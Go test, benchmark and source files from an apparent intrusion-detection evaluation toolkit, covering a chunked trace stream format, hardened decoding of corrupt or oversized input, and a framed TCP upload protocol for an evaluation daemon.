	"repro/internal/simtime"
	"repro/internal/traffic"
)

// traceEqual asserts two traces carry identical records, incidents, and
// metadata.
func traceEqual(t *testing.T, want, got *Trace) {
	t.Helper()
	if got.Profile != want.Profile || got.Seed != want.Seed {
		t.Fatalf("meta mismatch: %q/%d vs %q/%d", got.Profile, got.Seed, want.Profile, want.Seed)
	}
	if len(got.Records) != len(want.Records) {
		t.Fatalf("records %d vs %d", len(got.Records), len(want.Records))
	}
	for i := range want.Records {
		a, b := want.Records[i], got.Records[i]
		if a.At != b.At {
			t.Fatalf("record %d time %v vs %v", i, a.At, b.At)
		}
		if a.Pk.Seq != b.Pk.Seq || a.Pk.Sent != b.Pk.Sent ||
			a.Pk.Src != b.Pk.Src || a.Pk.Dst != b.Pk.Dst ||
			a.Pk.SrcPort != b.Pk.SrcPort || a.Pk.DstPort != b.Pk.DstPort ||
			a.Pk.Proto != b.Pk.Proto || a.Pk.Flags != b.Pk.Flags || a.Pk.TTL != b.Pk.TTL {
			t.Fatalf("record %d header mismatch: %+v vs %+v", i, a.Pk, b.Pk)
		}
		if !bytes.Equal(a.Pk.Payload, b.Pk.Payload) {
			t.Fatalf("record %d payload mismatch", i)
		}
		if a.Pk.Truth != b.Pk.Truth {
			t.Fatalf("record %d truth %+v vs %+v", i, a.Pk.Truth, b.Pk.Truth)
		}
	}
	if len(got.Incidents) != len(want.Incidents) {
		t.Fatalf("incidents %d vs %d", len(got.Incidents), len(want.Incidents))
	}
	for i := range want.Incidents {
		if got.Incidents[i] != want.Incidents[i] {
			t.Fatalf("incident %d mismatch: %+v vs %+v", i, got.Incidents[i], want.Incidents[i])
		}
	}
}

func encodeStream(t testing.TB, tr *Trace, chunkRecords int) []byte {
	t.Helper()
	var buf bytes.Buffer
	sw, err := NewWriter(&buf, tr.Profile, tr.Seed)
	if err != nil {
		t.Fatal(err)
	}
	sw.SetChunkRecords(chunkRecords)
	for _, r := range tr.Records {
		if err := sw.Append(r.At, r.Pk); err != nil {
			t.Fatal(err)
		}
	}
	sw.SetIncidents(tr.Incidents)
	if err := sw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestStreamRoundTripViaReadBinary(t *testing.T) {
	tr := sampleTrace(t)
	var buf bytes.Buffer
	if err := tr.WriteStream(&buf); err != nil {
		t.Fatal(err)
	}
	if !SniffStream(buf.Bytes()) {
		t.Fatal("stream does not start with IDT2 magic")
	}
	// ReadBinary must detect v2 by magic (compatibility shim).
	got, err := ReadBinary(&buf)
	if err != nil {
		t.Fatal(err)
	}
	traceEqual(t, tr, got)
}

func TestStreamReaderChunksAndStats(t *testing.T) {
	tr := sampleTrace(t)
	data := encodeStream(t, tr, 64)
	rd, err := NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	st, ok := rd.Stats()
	if !ok {
		t.Fatal("seekable stream: stats not available up front")
	}
	if st.Packets != uint64(len(tr.Records)) {
		t.Fatalf("stats packets %d, want %d", st.Packets, len(tr.Records))
	}
	s := tr.Summarize()
	if st.Bytes != uint64(s.Bytes) || st.MaliciousPkts != uint64(s.MaliciousPkts) {
		t.Fatalf("stats %+v vs summary %+v", st, s)
	}
	if st.Duration() != s.Duration {
		t.Fatalf("duration %v vs %v", st.Duration(), s.Duration)
	}
	wantChunks := (len(tr.Records) + 63) / 64
	if st.Chunks != wantChunks || len(rd.Index()) != wantChunks {
		t.Fatalf("chunks %d / index %d, want %d", st.Chunks, len(rd.Index()), wantChunks)
	}
	if len(rd.Incidents()) != len(tr.Incidents) {
		t.Fatalf("incidents %d, want %d (up front)", len(rd.Incidents()), len(tr.Incidents))
	}
	if rd.Profile() != tr.Profile || rd.Seed() != tr.Seed {
		t.Fatal("header meta mismatch")
	}

	var got []Record
	chunks := 0
	for {
		c, err := rd.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if len(c.Records) == 0 || len(c.Records) > 64 {
			t.Fatalf("chunk %d has %d records", chunks, len(c.Records))
		}
		if c.FirstAt() != c.Records[0].At || c.LastAt() != c.Records[len(c.Records)-1].At {
			t.Fatal("chunk time bounds wrong")
		}
		// Deep-copy before release: released chunk memory is recycled.
		for _, r := range c.Records {
			pk := *r.Pk
			pk.Payload = append([]byte(nil), r.Pk.Payload...)
			got = append(got, Record{At: r.At, Pk: &pk})
		}
		chunks++
		c.Release()
	}
	if chunks != wantChunks {
		t.Fatalf("decoded %d chunks, want %d", chunks, wantChunks)
	}
	if rd.ChunksRead() != wantChunks {
		t.Fatalf("ChunksRead %d, want %d", rd.ChunksRead(), wantChunks)
	}
	traceEqual(t, tr, &Trace{
		Records: got, Incidents: rd.Incidents(),
		Profile: rd.Profile(), Seed: rd.Seed(),
	})
}

// nonSeeker hides the ReadSeeker of a bytes.Reader.
type nonSeeker struct{ r io.Reader }

func (n nonSeeker) Read(p []byte) (int, error) { return n.r.Read(p) }

func TestStreamSequentialScan(t *testing.T) {
	tr := sampleTrace(t)
	data := encodeStream(t, tr, 128)
	rd, err := NewReader(nonSeeker{bytes.NewReader(data)})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := rd.Stats(); ok {
		t.Fatal("sequential scan: stats claimed before EOF")
	}
	n := 0
	for {
		c, err := rd.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		n += len(c.Records)
	}
	if n != len(tr.Records) {
		t.Fatalf("scanned %d records, want %d", n, len(tr.Records))
	}
	st, ok := rd.Stats()
	if !ok || st.Packets != uint64(len(tr.Records)) {
		t.Fatalf("stats after EOF: ok=%v %+v", ok, st)
	}
	if len(rd.Incidents()) != len(tr.Incidents) {
		t.Fatal("incidents missing after sequential scan")
	}
	if err := rd.SeekTo(0); err == nil {
		t.Fatal("SeekTo on sequential stream accepted")
	}
}

func TestStreamSeekTo(t *testing.T) {
	tr := sampleTrace(t)
	data := encodeStream(t, tr, 32)
	rd, err := NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	mid := tr.Records[len(tr.Records)/2].At
	if err := rd.SeekTo(mid); err != nil {
		t.Fatal(err)
	}
	c, err := rd.Next()
	if err != nil {
		t.Fatal(err)
	}
	if c.LastAt() < mid {
		t.Fatalf("chunk ends %v, before seek target %v", c.LastAt(), mid)
	}
	// The previous chunk (if any) must end before mid: we landed on the
	// first chunk whose range can contain mid.
	idx := rd.Index()
	for i, ci := range idx {
		if ci.FirstAt == c.FirstAt() && i > 0 && idx[i-1].LastAt >= mid {
			t.Fatal("seek overshot: an earlier chunk also covers the target")
		}
	}
	c.Release()

	// Seeking past the end drains to EOF.
	if err := rd.SeekTo(tr.Records[len(tr.Records)-1].At + time.Hour); err != nil {
		t.Fatal(err)
	}
	if _, err := rd.Next(); err != io.EOF {
		t.Fatalf("seek past end: got %v, want EOF", err)
	}
	// Rewind to the start replays everything.
	if err := rd.SeekTo(0); err != nil {
		t.Fatal(err)
	}
	n := 0
	for {
		c, err := rd.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		n += len(c.Records)
		c.Release()
	}
	if n != len(tr.Records) {
		t.Fatalf("after rewind scanned %d records, want %d", n, len(tr.Records))
	}
}

// emitObservation is what a replay test records at emit time (payload
// summarized, since chunk memory may be recycled afterwards).
type emitObservation struct {
	at         time.Duration
	seq        uint64
	payloadLen int
	payloadSum uint32
}

func observeReplay(t *testing.T, schedule func(sim *simtime.Sim, emit func(p *packet.Packet))) []emitObservation {
	t.Helper()
	sim := simtime.New(7)
	var obs []emitObservation
	schedule(sim, func(p *packet.Packet) {
		var sum uint32
		for _, b := range p.Payload {
			sum = sum*31 + uint32(b)
		}
		obs = append(obs, emitObservation{at: sim.Now(), seq: p.Seq, payloadLen: len(p.Payload), payloadSum: sum})
	})
	sim.Run()
	return obs
}

func TestReplayReaderMatchesInMemoryReplay(t *testing.T) {
	tr := sampleTrace(t)
	data := encodeStream(t, tr, 50)
	for _, speedup := range []float64{1, 3} {
		speedup := speedup
		want := observeReplay(t, func(sim *simtime.Sim, emit func(p *packet.Packet)) {
			if err := Replay(sim, tr, time.Second, speedup, emit); err != nil {
				t.Fatal(err)
			}
		})
		var rs *ReplayStream
		got := observeReplay(t, func(sim *simtime.Sim, emit func(p *packet.Packet)) {
			rd, err := NewReader(bytes.NewReader(data))
			if err != nil {
				t.Fatal(err)
			}
			rs, err = ReplayReader(sim, rd, time.Second, speedup, emit)
			if err != nil {
				t.Fatal(err)
			}
		})
		if err := rs.Err(); err != nil {
			t.Fatal(err)
		}
		if len(got) != len(want) {
			t.Fatalf("speedup %v: replayed %d packets, want %d", speedup, len(got), len(want))
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("speedup %v: emit %d differs: %+v vs %+v", speedup, i, got[i], want[i])
			}
		}
		if rs.Chunks() == 0 {
			t.Fatal("no chunks counted")
		}
	}
}

func TestPipelinedReaderMatchesDirect(t *testing.T) {
	tr := sampleTrace(t)
	data := encodeStream(t, tr, 40)
	want := observeReplay(t, func(sim *simtime.Sim, emit func(p *packet.Packet)) {
		rd, err := NewReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := ReplayReader(sim, rd, 0, 1, emit); err != nil {
			t.Fatal(err)
		}
	})
	var pr *PipelinedReader
	got := observeReplay(t, func(sim *simtime.Sim, emit func(p *packet.Packet)) {
		rd, err := NewReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		pr = NewPipelinedReader(rd, 2)
		if _, err := ReplayReader(sim, pr, 0, 1, emit); err != nil {
			t.Fatal(err)
		}
	})
	pr.Close()
	if len(got) != len(want) {
		t.Fatalf("pipelined replayed %d packets, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("emit %d differs: %+v vs %+v", i, got[i], want[i])
		}
	}
}

func TestStreamRecorderMatchesRecorder(t *testing.T) {
	// The same deterministic generation run captured through the
	// in-memory Recorder and the streaming recorder must produce
	// identical traces: streaming capture loses nothing.
	want := sampleTrace(t)
	var buf bytes.Buffer
	sw, err := NewWriter(&buf, want.Profile, want.Seed)
	if err != nil {
		t.Fatal(err)
	}
	sw.SetChunkRecords(100)
	sim := simtime.New(21)
	srec := NewStreamRecorder(sim, sw)
	seq := &packet.SeqCounter{}
	eps := traffic.Endpoints{
		External: []packet.Addr{packet.IPv4(203, 0, 1, 1)},
		Cluster:  []packet.Addr{packet.IPv4(10, 1, 1, 1), packet.IPv4(10, 1, 1, 2)},
	}
	gen, err := traffic.NewGenerator(sim, traffic.EcommerceEdge(), eps, seq, srec.Emit)
	if err != nil {
		t.Fatal(err)
	}
	gen.Start(40)
	ctx := &attack.Context{Sim: sim, Rng: sim.Stream("attack"), Seq: seq, Eps: eps, Emit: srec.Emit}
	camp := attack.NewCampaign(ctx)
	if err := camp.SpreadAcross(time.Second, 3*time.Second, []attack.Scenario{
		attack.PortScan{Ports: 30}, attack.Exploit{Count: 2},
	}); err != nil {
		t.Fatal(err)
	}
	sim.RunUntil(5 * time.Second)
	gen.Stop()
	sim.Run()
	if err := srec.Err(); err != nil {
		t.Fatal(err)
	}
	sw.SetIncidents(camp.Incidents())
	if err := sw.Close(); err != nil {
		t.Fatal(err)
	}
	got, err := ReadBinary(&buf)
	if err != nil {
		t.Fatal(err)
	}
	traceEqual(t, want, got)
}

func TestStreamRejectsCorrupt(t *testing.T) {
	tr := sampleTrace(t)
	data := encodeStream(t, tr, 64)

	// Truncations at every interesting boundary must error, not panic.
	for _, n := range []int{0, 3, 9, 20, len(data) / 2, len(data) - 5} {
		trunc := data[:n]
		rd, err := NewReader(bytes.NewReader(trunc))
		if err != nil {
			continue
		}
		for {
			c, err := rd.Next()
			if err != nil {
				break
			}
			c.Release()
		}
	}

	// Flipping the version is rejected.
	bad := append([]byte(nil), data...)
	bad[7] = 99
	if _, err := NewReader(bytes.NewReader(bad)); err == nil {
		t.Fatal("future stream version accepted")
	}

	// Corrupting a chunk's interior fails decode with an error.
	bad = append([]byte(nil), data...)
	// Find the first chunk block (right after the header) and scribble on
	// its length field to claim more than the block holds.
	hdrLen := headerFixedLen + len(tr.Profile)
	bad[hdrLen] = 77 // unknown block type
	rd, err := NewReader(bytes.NewReader(bad))
	if err == nil {
		_, err = rd.Next()
	}
	if err == nil {
		t.Fatal("unknown block type accepted")
	}
}

func TestWriterEnforcesTimeOrder(t *testing.T) {
	var buf bytes.Buffer
	sw, err := NewWriter(&buf, "p", 1)
	if err != nil {
		t.Fatal(err)
	}
	p := &packet.Packet{}
	if err := sw.Append(time.Second, p); err != nil {
		t.Fatal(err)
	}
	if err := sw.Append(500*time.Millisecond, p); err == nil {
		t.Fatal("out-of-order append accepted")
	}
}

func TestEmptyStream(t *testing.T) {
	var buf bytes.Buffer
	sw, err := NewWriter(&buf, "empty", 5)
	if err != nil {
		t.Fatal(err)
	}
	if err := sw.Close(); err != nil {
		t.Fatal(err)
	}
	rd, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	st, ok := rd.Stats()
	if !ok || st.Packets != 0 || st.Chunks != 0 {
		t.Fatalf("empty stream stats: ok=%v %+v", ok, st)
	}
	if _, err := rd.Next(); err != io.EOF {
		t.Fatalf("empty stream Next: %v, want EOF", err)
	}
	// Streaming replay of an empty source is a no-op.
	sim := simtime.New(1)
	rd2, _ := NewReader(bytes.NewReader(buf.Bytes()))
	rs, err := ReplayReader(sim, rd2, 0, 1, func(p *packet.Packet) { t.Fatal("emit from empty trace") })
	if err != nil || rs.Err() != nil {
		t.Fatalf("empty replay: %v / %v", err, rs.Err())
	}
}

func TestJSONLBinaryStreamEquality(t *testing.T) {
	// The format-conversion triangle: the same trace written as JSONL,
	// v1 binary, and v2 stream decodes to identical records, incidents,
	// and metadata from all three.
	tr := sampleTrace(t)

	var jbuf, v1buf, v2buf bytes.Buffer
	if err := tr.WriteJSONL(&jbuf); err != nil {
		t.Fatal(err)
	}
	if err := tr.WriteBinary(&v1buf); err != nil {
		t.Fatal(err)
	}
	if err := tr.WriteStream(&v2buf); err != nil {
		t.Fatal(err)
	}

	fromJSONL, err := ReadJSONL(&jbuf)
	if err != nil {
		t.Fatal(err)
	}
	fromV1, err := ReadBinary(&v1buf)
	if err != nil {
		t.Fatal(err)
	}
	fromV2, err := ReadBinary(&v2buf)
	if err != nil {
		t.Fatal(err)
	}
	traceEqual(t, tr, fromJSONL)
	traceEqual(t, tr, fromV1)
	traceEqual(t, tr, fromV2)
	// And transitively against each other (cheap given the above, but
	// pins the equality the satellite task asks for explicitly).
	traceEqual(t, fromJSONL, fromV1)
	traceEqual(t, fromV1, fromV2)
}

func TestDecodeAllocsPerChunk(t *testing.T) {
	tr := sampleTraceForBench(t)
	const chunkRecords = 64
	data := encodeStream(t, tr, chunkRecords)
	chunks := (len(tr.Records) + chunkRecords - 1) / chunkRecords
	if chunks < 10 {
		t.Fatalf("trace too small for a meaningful per-chunk measurement (%d chunks)", chunks)
	}
	br := bytes.NewReader(data)
	allocs := testing.AllocsPerRun(20, func() {
		br.Reset(data)
		rd, err := NewReader(br)
		if err != nil {
			t.Fatal(err)
		}
		for {
			c, err := rd.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			c.Release()
		}
	})
	perChunk := allocs / float64(chunks)
	t.Logf("decode: %.1f allocs/op over %d chunks = %.2f allocs/chunk", allocs, chunks, perChunk)
	if perChunk > 2 {
		t.Fatalf("%.2f allocs per chunk, want <= 2 (total %.0f over %d chunks)", perChunk, allocs, chunks)
	}
}

// ---- benchmarks ----

// longTraceForBench generates dur of background traffic — enough
// records that a small-chunk encoding spans dozens of chunks.
func longTraceForBench(b *testing.B, dur time.Duration) *Trace {
	b.Helper()
	sim := simtime.New(21)
	rec := NewRecorder(sim, "bench-long")
	eps := traffic.Endpoints{
		External: []packet.Addr{packet.IPv4(203, 0, 1, 1)},
		Cluster:  []packet.Addr{packet.IPv4(10, 1, 1, 1), packet.IPv4(10, 1, 1, 2)},
	}
	gen, err := traffic.NewGenerator(sim, traffic.EcommerceEdge(), eps, nil, rec.Emit)
	if err != nil {
		b.Fatal(err)
	}
	gen.Start(40)
	sim.RunUntil(dur)
	gen.Stop()
	sim.Run()
	return rec.Trace()
}

func BenchmarkStreamEncode(b *testing.B) {
	tr := sampleTraceForBench(b)
	var buf bytes.Buffer
	if err := tr.WriteStream(&buf); err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(buf.Len()))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := tr.WriteStream(io.Discard); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkStreamDecode(b *testing.B) {
	tr := sampleTraceForBench(b)
	var buf bytes.Buffer
	if err := tr.WriteStream(&buf); err != nil {
		b.Fatal(err)
	}
	data := buf.Bytes()
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rd, err := NewReader(bytes.NewReader(data))
		if err != nil {
			b.Fatal(err)
		}
		for {
			c, err := rd.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				b.Fatal(err)
			}
			c.Release()
		}
	}
}

func BenchmarkStreamDecodePipelined(b *testing.B) {
	tr := sampleTraceForBench(b)
	var buf bytes.Buffer
	if err := tr.WriteStream(&buf); err != nil {
		b.Fatal(err)
	}
	data := buf.Bytes()
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rd, err := NewReader(bytes.NewReader(data))
		if err != nil {
			b.Fatal(err)
		}
		pr := NewPipelinedReader(rd, 2)
		for {
			c, err := pr.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				b.Fatal(err)
			}
			c.Release()
		}
		pr.Close()
	}
}

// BenchmarkReplayLiveHeap contrasts the live-heap high-water mark (a
// peak-RSS proxy) of in-memory versus streaming replay. The custom
// live-MB metric is sampled at the replay midpoint after a forced GC,
// when the in-memory path necessarily holds every record and the
// streaming path only its release-lag window.
func BenchmarkReplayLiveHeap(b *testing.B) {
	// A long trace over small chunks, so it spans far more chunks than
	// the streaming window (pipeline depth + release lag + freelist):
	// the streaming path's live set is that window, not the whole
	// record array.
	tr := longTraceForBench(b, 30*time.Second)
	data := encodeStream(b, tr, 256)
	total := len(tr.Records)
	tr = nil // the decoded form must not be live during measurement

	measure := func(b *testing.B, run func(emit func(p *packet.Packet))) {
		var peak uint64
		for i := 0; i < b.N; i++ {
			seen := 0
			sampled := false
			run(func(p *packet.Packet) {
				seen++
				if !sampled && seen >= total/2 {
					sampled = true
					var ms runtime.MemStats
					runtime.GC()
					runtime.ReadMemStats(&ms)
					if ms.HeapAlloc > peak {
						peak = ms.HeapAlloc
					}
				}
			})
		}
		b.ReportMetric(float64(peak)/1e6, "live-MB")
	}

	b.Run("inmemory", func(b *testing.B) {
		measure(b, func(emit func(p *packet.Packet)) {
			sim := simtime.New(1)
			loaded, err := ReadBinary(bytes.NewReader(data))
			if err != nil {
				b.Fatal(err)
			}
			if err := Replay(sim, loaded, 0, 1, emit); err != nil {
				b.Fatal(err)
			}
			sim.Run()
		})
	})
	b.Run("stream", func(b *testing.B) {
		measure(b, func(emit func(p *packet.Packet)) {
			sim := simtime.New(1)
			rd, err := NewReader(bytes.NewReader(data))
			if err != nil {
				b.Fatal(err)
			}
			pr := NewPipelinedReader(rd, 2)
			rs, err := ReplayReader(sim, pr, 0, 1, emit)
			if err != nil {
				b.Fatal(err)
			}
			sim.Run()
			pr.Close()
			if err := rs.Err(); err != nil {
				b.Fatal(err)
			}
		})
	})
}
