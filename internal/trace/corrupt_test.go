package trace

// Corrupt-input tests for the IDT2 stream decoder's hardening
// guarantees: decode errors name the chunk and byte offset where
// parsing stopped, and hostile length/count fields fail before they can
// size an allocation.

import (
	"bytes"
	"encoding/binary"
	"io"
	"strings"
	"testing"
)

// smallChunkStream encodes the fuzz seed trace at 3 records per chunk
// (multiple chunks) and returns the encoded stream plus the payload
// offset of every chunk block.
func smallChunkStream(t *testing.T) ([]byte, []int) {
	t.Helper()
	tr := fuzzSeedTrace()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, tr.Profile, tr.Seed)
	if err != nil {
		t.Fatal(err)
	}
	w.SetChunkRecords(3)
	for _, rec := range tr.Records {
		if err := w.Append(rec.At, rec.Pk); err != nil {
			t.Fatal(err)
		}
	}
	w.SetIncidents(tr.Incidents)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()

	var offs []int
	pos := headerFixedLen + len(tr.Profile)
	for pos+5 <= len(data) {
		typ := data[pos]
		blen := int(binary.BigEndian.Uint32(data[pos+1 : pos+5]))
		if typ == blockChunk {
			offs = append(offs, pos+5)
		}
		pos += 5 + blen
		if typ == blockFooter {
			break
		}
	}
	if len(offs) < 2 {
		t.Fatalf("need >= 2 chunks to test ordinal context, got %d", len(offs))
	}
	return data, offs
}

func readAll(data []byte) error {
	rd, err := NewReader(bytes.NewReader(data))
	if err != nil {
		return err
	}
	for {
		c, err := rd.Next()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
		c.Release()
	}
}

func TestCorruptFirstChunkNamesChunkAndOffset(t *testing.T) {
	data, offs := smallChunkStream(t)
	// Zero the record-count varint of chunk 0: the decoder must reject
	// it and say exactly where.
	data[offs[0]] = 0
	err := readAll(data)
	if err == nil {
		t.Fatal("zeroed record count decoded cleanly")
	}
	for _, want := range []string{"chunk 0: byte 1/", "implausible record count 0"} {
		if !strings.Contains(err.Error(), want) {
			t.Fatalf("error %q missing %q", err, want)
		}
	}
}

func TestCorruptLaterChunkCarriesOrdinal(t *testing.T) {
	data, offs := smallChunkStream(t)
	data[offs[1]] = 0
	rd, err := NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	c, err := rd.Next()
	if err != nil {
		t.Fatalf("chunk 0 is intact, Next failed: %v", err)
	}
	c.Release()
	if _, err = rd.Next(); err == nil {
		t.Fatal("corrupt chunk 1 decoded cleanly")
	}
	if !strings.Contains(err.Error(), "chunk 1: byte 1/") {
		t.Fatalf("error %q does not locate chunk 1", err)
	}
}

func TestHostileRecordCountFailsBeforeAllocation(t *testing.T) {
	// A chunk claiming 1000 records in a 10-byte region must be rejected
	// by the region-capacity check before the record slab is sized.
	var buf []byte
	buf = binary.AppendUvarint(buf, 1000) // record count
	buf = binary.AppendUvarint(buf, 0)    // base timestamp
	buf = binary.AppendUvarint(buf, 0)    // arena length
	buf = binary.AppendUvarint(buf, 0)    // string table size
	buf = append(buf, make([]byte, 10)...)
	r := &Reader{intern: make(map[string]string)}
	c := &Chunk{owner: r, buf: buf}
	err := r.decodeChunk(c)
	if err == nil {
		t.Fatal("hostile record count decoded cleanly")
	}
	if !strings.Contains(err.Error(), "record count 1000 exceeds region capacity (10 bytes)") {
		t.Fatalf("unexpected error: %v", err)
	}
	if cap(c.pkts) != 0 || cap(c.Records) != 0 {
		t.Fatalf("record slab allocated for hostile count (pkts %d, records %d)",
			cap(c.pkts), cap(c.Records))
	}
}

func TestHostileStringTableSizeRejected(t *testing.T) {
	// A string-table size exceeding the bytes left in the chunk is
	// implausible on its face (every entry costs at least one byte).
	var buf []byte
	buf = binary.AppendUvarint(buf, 1)   // record count
	buf = binary.AppendUvarint(buf, 0)   // base timestamp
	buf = binary.AppendUvarint(buf, 0)   // arena length
	buf = binary.AppendUvarint(buf, 500) // string table size, 4 bytes left
	buf = append(buf, make([]byte, 4)...)
	r := &Reader{intern: make(map[string]string)}
	err := r.decodeChunk(&Chunk{owner: r, buf: buf})
	if err == nil || !strings.Contains(err.Error(), "implausible string table size 500") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestOversizedBlockLengthRejectedBeforeAllocation(t *testing.T) {
	// A block header claiming more bytes than the source holds must fail
	// on the remaining-bytes cross-check, not allocate the claimed size.
	data, offs := smallChunkStream(t)
	hdr := offs[0] - 5
	binary.BigEndian.PutUint32(data[hdr+1:hdr+5], 2<<20)
	err := readAll(data)
	if err == nil {
		t.Fatal("oversized block length decoded cleanly")
	}
	if !strings.Contains(err.Error(), "exceeds remaining") {
		t.Fatalf("error %q is not the pre-allocation rejection", err)
	}
}

func TestHostileIncidentCountRejected(t *testing.T) {
	// An incident count far beyond what the block could encode fails the
	// capacity check even when below the absolute cap.
	payload := binary.AppendUvarint(nil, 100000)
	r := &Reader{}
	err := r.parseIncidents(payload)
	if err == nil || !strings.Contains(err.Error(), "exceeds block capacity") {
		t.Fatalf("unexpected error: %v", err)
	}
}
