// Network framing for IDT2 transport. The idsevald daemon accepts a
// trace as a sequence of frames over a byte stream (TCP); each frame
// carries an opaque segment of the IDT2 file plus enough envelope —
// type, ordinal, length, checksum — to resume an interrupted upload
// exactly where it stopped and to reject corruption at the wire before
// it reaches the spool.
//
// Wire layout (big-endian):
//
//	magic   [4]byte  "ISF2"
//	type    u8       frame type (FrameHello .. FrameComplete)
//	ordinal u32      sequence number within the stream
//	length  u32      payload byte count
//	payload [length]byte
//	crc     u32      CRC-32 (IEEE) of payload
//
// The reader is hardened against hostile peers: the length field is
// capped (MaxFramePayload) and never trusted for allocation — the
// buffer grows in bounded steps only as payload bytes actually arrive,
// so a frame claiming 64 MiB costs an attacker 64 MiB of real traffic,
// not one malloc. Every decode error is a *FrameDecodeError carrying
// the frame ordinal and the byte offset where the frame began, so a
// truncated or corrupted upload is diagnosable from the error string
// alone.
package trace

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
)

// Frame types. Client → server: Hello opens (or resumes) a stream,
// Data carries one IDT2 segment, Finish declares the upload complete.
// Server → client: Ack confirms the frame named by its ordinal, Reject
// refuses work with a retry hint, Error reports a protocol or
// evaluation failure, Result streams one incremental experiment
// verdict, Scorecard carries the final rendered scorecard, Complete
// closes the dialogue.
const (
	FrameHello     byte = 1
	FrameData      byte = 2
	FrameFinish    byte = 3
	FrameAck       byte = 4
	FrameReject    byte = 5
	FrameError     byte = 6
	FrameResult    byte = 7
	FrameScorecard byte = 8
	FrameComplete  byte = 9
)

const (
	frameMagic      = "ISF2"
	frameHeaderLen  = 4 + 1 + 4 + 4 // magic, type, ordinal, length
	frameTrailerLen = 4             // crc32

	// MaxFramePayload caps a single frame's payload. It matches the
	// decoder's per-block cap, so any block a writer can produce fits in
	// one frame.
	MaxFramePayload = maxBlockLen

	// frameReadStep bounds how much the payload buffer grows per read:
	// allocation tracks bytes received, never bytes claimed.
	frameReadStep = 64 << 10
)

// Frame is one decoded frame. Payload aliases the reader's internal
// buffer and is valid only until the next call to Next.
type Frame struct {
	Type    byte
	Ordinal uint32
	Payload []byte
}

// FrameDecodeError is any failure decoding a frame from the wire. It
// pins the frame's ordinal (the header's, when the header was readable;
// otherwise the last good frame's) and the byte offset in the
// connection stream where the failing frame began.
type FrameDecodeError struct {
	Ordinal uint32
	Offset  int64
	Cause   error
}

func (e *FrameDecodeError) Error() string {
	return fmt.Sprintf("trace: frame %d at byte %d: %v", e.Ordinal, e.Offset, e.Cause)
}

func (e *FrameDecodeError) Unwrap() error { return e.Cause }

// FrameReader decodes frames from a byte stream, reusing one payload
// buffer across frames. Not safe for concurrent use.
type FrameReader struct {
	r       io.Reader
	max     uint32
	off     int64
	lastOrd uint32
	buf     []byte
	hdr     [frameHeaderLen]byte
}

// NewFrameReader wraps r. maxPayload caps the accepted payload length;
// <= 0 or larger than MaxFramePayload defaults to MaxFramePayload.
func NewFrameReader(r io.Reader, maxPayload int) *FrameReader {
	max := uint32(MaxFramePayload)
	if maxPayload > 0 && maxPayload < MaxFramePayload {
		max = uint32(maxPayload)
	}
	return &FrameReader{r: r, max: max}
}

// Offset returns the count of stream bytes fully consumed so far.
func (fr *FrameReader) Offset() int64 { return fr.off }

// fail wraps cause with the current frame's position.
func (fr *FrameReader) fail(ord uint32, start int64, cause error) error {
	return &FrameDecodeError{Ordinal: ord, Offset: start, Cause: cause}
}

// Next decodes one frame. A clean end of stream between frames returns
// io.EOF; every other failure is a *FrameDecodeError.
func (fr *FrameReader) Next() (Frame, error) {
	start := fr.off
	if _, err := io.ReadFull(fr.r, fr.hdr[:]); err != nil {
		if err == io.EOF {
			return Frame{}, io.EOF
		}
		return Frame{}, fr.fail(fr.lastOrd, start, fmt.Errorf("truncated frame header: %w", err))
	}
	if string(fr.hdr[:4]) != frameMagic {
		return Frame{}, fr.fail(fr.lastOrd, start,
			fmt.Errorf("bad frame magic %x (want %q) — stream desynchronized", fr.hdr[:4], frameMagic))
	}
	typ := fr.hdr[4]
	ord := binary.BigEndian.Uint32(fr.hdr[5:9])
	plen := binary.BigEndian.Uint32(fr.hdr[9:13])
	if typ < FrameHello || typ > FrameComplete {
		return Frame{}, fr.fail(ord, start, fmt.Errorf("unknown frame type %d", typ))
	}
	if plen > fr.max {
		return Frame{}, fr.fail(ord, start,
			fmt.Errorf("frame payload %d bytes exceeds cap %d", plen, fr.max))
	}

	// Grow the buffer stepwise as bytes arrive: a hostile length field
	// can make us read, but never preallocate, plen bytes.
	need := int(plen)
	payload := fr.buf[:0]
	for len(payload) < need {
		n := need - len(payload)
		if n > frameReadStep {
			n = frameReadStep
		}
		at := len(payload)
		payload = append(payload, make([]byte, n)...)
		if _, err := io.ReadFull(fr.r, payload[at:]); err != nil {
			fr.buf = payload[:0]
			return Frame{}, fr.fail(ord, start,
				fmt.Errorf("truncated frame payload (%d of %d bytes): %w", at, need, err))
		}
	}
	fr.buf = payload

	var crcBuf [frameTrailerLen]byte
	if _, err := io.ReadFull(fr.r, crcBuf[:]); err != nil {
		return Frame{}, fr.fail(ord, start, fmt.Errorf("truncated frame checksum: %w", err))
	}
